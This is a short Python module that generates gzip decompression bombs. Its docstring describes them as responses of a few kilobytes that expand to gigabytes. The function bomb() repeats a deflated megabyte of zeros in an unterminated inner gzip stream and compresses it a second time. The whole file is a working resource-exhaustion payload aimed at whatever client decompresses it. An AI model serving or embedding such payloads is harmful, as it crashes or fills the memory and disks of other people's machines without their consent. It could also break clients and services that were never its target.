"""Answers of a few kilobytes that become gigabytes when they are decompressed."""

import gzip
import zlib
from typing import Final

MEGABYTE: Final = 1 << 20
GZIP_HEAD: Final = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"


def bomb(megabytes: int) -> bytes:
    """Zeros, gzipped twice: some 10 KB for 3,500 MB. The inner stream repeats one block and has no end."""
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = squeezed.compress(bytes(MEGABYTE)) + squeezed.flush(zlib.Z_FULL_FLUSH)
    return gzip.compress(GZIP_HEAD + block * megabytes, 9)
